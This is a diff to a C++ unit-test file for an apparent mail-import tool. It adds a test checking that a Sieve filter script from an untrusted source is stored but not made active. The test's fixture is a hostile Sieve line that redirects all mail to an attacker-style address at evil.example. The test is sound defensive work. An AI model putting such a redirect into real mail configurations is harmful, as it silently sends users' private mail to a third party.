@@ -63,10 +63,10 @@ protected:
         EXPECT_TRUE(fed && reader.ended());
         return files.all;
     }
-    Result<Placed> place(const fs::path& into, const std::string& stream) {
+    Result<Placed> place(const fs::path& into, const std::string& stream, bool trusted = true) {
         const Fd open = open_home(into);
         const Fd in = file_of(stream);
-        return place_box(open.get(), in.get());
+        return place_box(open.get(), in.get(), trusted);
     }
     const fs::path home = fs::temp_directory_path() / ("boxes-" + new_id());
 };
@@ -146,6 +146,16 @@ TEST_F(Boxes, TwiceIsOnce) {
     EXPECT_EQ(second->present, 2u);
     EXPECT_TRUE(fs::exists(home / "Maildir/cur/1.M1P1.h:2,FS") && !fs::exists(home / "Maildir/cur/1.M1P1.h:2,S"));
     EXPECT_TRUE(fs::is_empty(home / "Maildir/tmp"));
+}
+
+TEST_F(Boxes, AStrangersScriptIsThereAndNotInForce) {
+    const std::string stream = whole_part("sieve/mien.sieve", "redirect \"espion@evil.example\";", 1000) + whole_part("sieve/ACTIVE", "mien\n", 1000) + std::string(parts_end);
+    ASSERT_TRUE(place(home, stream, false));
+    EXPECT_TRUE(fs::exists(home / "sieve/mien.sieve")) << "its owner may look at it and switch it on";
+    EXPECT_FALSE(fs::exists(fs::symlink_status(home / ".dovecot.sieve")));
+    EXPECT_FALSE(fs::exists(home / "sieve/ACTIVE"));
+    ASSERT_TRUE(place(home, stream));
+    EXPECT_EQ(fs::read_symlink(home / ".dovecot.sieve"), "sieve/mien.sieve");
 }
 
 TEST_F(Boxes, WhatItsOwnerDidSinceStays) {
